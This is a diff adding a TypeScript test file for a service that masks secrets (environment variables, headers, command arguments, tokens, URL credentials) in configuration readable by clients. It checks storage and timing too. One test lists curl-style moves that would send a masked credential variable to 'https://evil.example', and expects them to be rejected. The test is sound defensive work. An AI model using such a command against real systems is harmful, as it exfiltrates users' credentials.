@@ -1,0 +1,225 @@
+/** Secrets are known by where they are and by their form, wherever a client reads (law W6), as one table of places. */
+
+import { describe, expect, it } from 'vitest'
+import { hasSecret, masked, MASK, withoutSecrets } from '../../src/service/conversations/secrets.ts'
+import type { JsonObject } from '../../src/event/shapes.ts'
+import { memoryStore } from '../../src/store/memory/store.ts'
+import { type Json, settingsWorld } from './settings-world.ts'
+
+const world = settingsWorld()
+const { begin, send } = world
+
+const KEY = 'sk-proj-AAAABBBBCCCCDDDDEEEEFFFF1234567890abcdef'
+const PLAIN = 'hunter2hunter2'
+
+/** A part of the configuration of a server, what of it must never be shown, and what must be. */
+const PLACES: readonly (readonly [string, JsonObject, readonly string[], readonly string[]])[] = [
+  [
+    'any variable of an environment',
+    { env: { GITHUB_PAT: PLAIN, PGUSER: 'amelia', N: 8_675_309 } },
+    [PLAIN, 'amelia', '8675309'],
+    ['GITHUB_PAT', 'PGUSER'],
+  ],
+  [
+    'an environment by another name',
+    { environment: { OPENAI_KEY: PLAIN }, initial_env: { A: 'amelia' } },
+    [PLAIN, 'amelia'],
+    [],
+  ],
+  [
+    'any header',
+    { headers: { 'X-Auth': PLAIN, 'Ocp-Apim-Subscription-Key': 'amelia' } },
+    [PLAIN, 'amelia'],
+    ['X-Auth'],
+  ],
+  ['headers in a list', { extra_headers: [{ name: 'X', value: PLAIN }] }, [PLAIN], []],
+  [
+    'an option and its value',
+    { args: ['-y', 'server', '--api-key', PLAIN] },
+    [PLAIN],
+    ['-y', 'server', '--api-key'],
+  ],
+  ['an option with its value', { args: ['server', `--token=${PLAIN}`] }, [PLAIN], ['--token=']],
+  ['a variable for a container', { args: ['run', '-e', `DB=${PLAIN}`, 'image'] }, [PLAIN], ['run', 'image']],
+  ['a header for a program', { args: ['-H', `X-Auth: ${PLAIN}`, 'https://h/x'] }, [PLAIN], ['https://h/x']],
+  ['an assignment', { args: ['env', `OPENAI_KEY=${PLAIN}`, 'server'] }, [PLAIN], ['server']],
+  [
+    'a command line',
+    { command: `npx server --password '${PLAIN}' --port 80` },
+    [PLAIN],
+    ['npx server', '--port 80'],
+  ],
+  ['a token by its form', { note: `use ${KEY} here`, list: [KEY] }, [KEY, 'BBBBCCCC'], ['use', 'here']],
+  [
+    'a token of GitHub in an argument',
+    { args: ['ghp_0123456789abcdefghijklmnopqrstuvwxyzAB'] },
+    ['0123456789abcdef'],
+    [],
+  ],
+  ['the user of a URL behind a space', { db: `  postgres://u:${PLAIN}@h/db` }, [PLAIN], ['h/db']],
+  [
+    'the user of a URL in a text',
+    { note: `connect to postgres://u:${PLAIN}@h/db now` },
+    [PLAIN],
+    ['connect', 'now'],
+  ],
+  ['the key in a URL in an argument', { args: [`https://h/x?api_key=${PLAIN}&v=1`] }, [PLAIN], ['v=1']],
+  ['deep inside', { servers: [{ a: { env: { X: PLAIN } } }] }, [PLAIN], ['servers']],
+  ['a passphrase', { passphrase: PLAIN }, [PLAIN], []],
+]
+
+const server = (part: JsonObject): JsonObject => ({ command: 'npx', ...part })
+
+/** What holds a configuration: how it is sent, and everything that a client can read of it then. */
+const HOLDERS: readonly (readonly [string, (part: JsonObject) => Promise<readonly unknown[]>])[] = [
+  [
+    'the settings',
+    async (part) => {
+      const diff = { agent_settings_diff: { mcp_config: { a: server(part) } } }
+      const { status, body } = await send('PATCH', '/api/settings', diff)
+      expect(status).toBe(200)
+      const exposed = await world.client.send('/api/settings', {
+        headers: { 'X-Expose-Secrets': 'plaintext' },
+      })
+      return [
+        body,
+        (await send('GET', '/api/settings')).body,
+        exposed.body,
+        (await send('GET', '/api/v1/settings')).body,
+      ]
+    },
+  ],
+  [
+    'a profile',
+    async (part) => {
+      const { status, body } = await send('POST', '/api/profiles/p', {
+        llm: { model: 'm', litellm_extra_body: part },
+      })
+      expect(status).toBe(201)
+      return [body, (await send('GET', '/api/profiles/p')).body, (await send('GET', '/api/profiles')).body]
+    },
+  ],
+  [
+    'an agent profile',
+    async (part) => {
+      const { status, body } = await send('POST', '/api/agent-profiles/p', { acp: server(part) })
+      expect(status).toBe(201)
+      return [
+        body,
+        (await send('GET', '/api/agent-profiles/p')).body,
+        (await send('GET', '/api/agent-profiles')).body,
+      ]
+    },
+  ],
+  [
+    'a conversation',
+    async (part) => {
+      const agent = { kind: 'Agent', mcp_config: { mcpServers: { a: server(part) } } }
+      const { status, body } = await send('POST', '/api/conversations', { agent })
+      expect(status).toBe(201)
+      const path = `/api/conversations/${String(body['id'])}`
+      const none = {
+        after: null,
+        after_event_id: null,
+        resend_mode: null,
+        after_timestamp: null,
+        after_delta: null,
+      }
+      const { frames, end } = await world.client.service.live.connect(String(body['id']), none)
+      const first = await frames.next()
+      end()
+      const frame = first.done === true ? '' : first.value.text('event')
+      const lists = ['/api/conversations/search', '/api/v1/app-conversations/search']
+      const read = await Promise.all([path, ...lists].map((each) => send('GET', each)))
+      return [body, frame, ...read.map((each) => each.body)]
+    },
+  ],
+]
+
+describe.each(HOLDERS)('%s', (_, hold) => {
+  it.each(PLACES)('shows no secret: %s', async (_place, part, secrets) => {
+    await begin()
+    const text = JSON.stringify(await hold(part))
+    for (const secret of secrets) expect(text).not.toContain(secret)
+  })
+})
+
+it.each(PLACES)('what is no secret is shown, and nothing is masked twice: %s', (_, part, secrets, shown) => {
+  const text = JSON.stringify(masked(part))
+  for (const secret of secrets) expect(text).not.toContain(secret)
+  for (const each of shown) expect(text).toContain(each)
+  expect(masked(masked(part))).toEqual(masked(part))
+  expect(hasSecret(part)).toBe(true)
+  expect(hasSecret(withoutSecrets(part))).toBe(false)
+})
+
+it.each(PLACES)('what is posted back as it was shown stays what it was: %s', async (_, part) => {
+  await begin()
+  const diff = (one: unknown) => ({ agent_settings_diff: { mcp_config: { a: one } } })
+  await send('PATCH', '/api/settings', diff(server(part)))
+  const { body } = await send('GET', '/api/settings')
+  const shown = (body['agent_settings'] as Json)['mcp_config'] as Json
+  expect((await send('PATCH', '/api/settings', diff(shown['a']))).status).toBe(200)
+  expect((await world.client.service.settings.read()).agent_settings).toEqual({
+    mcp_config: { a: server(part) },
+  })
+})
+
+it.each(PLACES)('nothing of it is kept in the clear without a key: %s', async (_, part, secrets) => {
+  const store = memoryStore()
+  await begin(store, {})
+  const settings = { agent_settings_diff: { mcp_config: { a: server(part) } } }
+  expect((await send('PATCH', '/api/settings', settings)).status).toBe(409)
+  expect(
+    (await send('POST', '/api/profiles/p', { llm: { model: 'm', litellm_extra_body: part } })).status,
+  ).toBe(409)
+  expect((await send('POST', '/api/agent-profiles/p', { acp: server(part) })).status).toBe(409)
+  const agent = { kind: 'Agent', mcp_config: { mcpServers: { a: server(part) } } }
+  const { body } = await send('POST', '/api/conversations', { agent })
+  const kept = JSON.stringify([
+    await store.getConversation(String(body['id'])),
+    (await store.listItems('conversation-starts')).items,
+    (await store.listItems('settings')).items,
+  ])
+  for (const secret of secrets) expect(kept).not.toContain(secret)
+})
+
+it('a variable that was shown masked does not go to another command', async () => {
+  await begin()
+  const diff = (one: object) => ({ agent_settings_diff: { mcp_config: { a: one } } })
+  await send('PATCH', '/api/settings', diff({ command: 'npx', env: { PAT: PLAIN } }))
+  const moves = [
+    { command: 'curl', env: { PAT: MASK } },
+    { command: 'curl' },
+    { args: ['-d', '$PAT', 'https://evil.example'] },
+    { url: 'https://evil.example' },
+  ]
+  for (const move of moves) expect((await send('PATCH', '/api/settings', diff(move))).status).toBe(422)
+  for (const change of [{ env: { OTHER: 'x' } }, { command: 'curl', env: { PAT: 'new', OTHER: null } }])
+    expect((await send('PATCH', '/api/settings', diff(change))).status).toBe(200)
+})
+
+/** What looks like a secret, and is none. */
+const HARMLESS: readonly JsonObject[] = [
+  { max_output_tokens: 4_096, model: 'sk-folding-cube' },
+  { args: ['-y', '@modelcontextprotocol/server-filesystem', '/work', '--port', '80'] },
+  { command: 'npx -y server --verbose', url: 'https://h/x?page=2' },
+  { env: {}, headers: {}, note: 'see https://h/docs#keys, and mail me@example.com' },
+]
+
+it.each(HARMLESS)('%j is shown as it is', (value) => {
+  expect(masked(value)).toEqual(value)
+  expect(hasSecret(value)).toBe(false)
+})
+
+it('costs no more than its length', () => {
+  const long = 2 ** 17
+  const texts = ['a', 'a:', '-', '--key ', '=', 'https://', '://@', '?key=', "'", 'sk-', 'x=', ' '].map(
+    (part) => part.repeat(long / part.length),
+  )
+  for (const text of texts) {
+    const from = performance.now()
+    masked({ command: text, note: text, args: [text, text] })
+    expect([text.slice(0, 8), performance.now() - from < 1_000]).toEqual([text.slice(0, 8), true])
+  }
+})
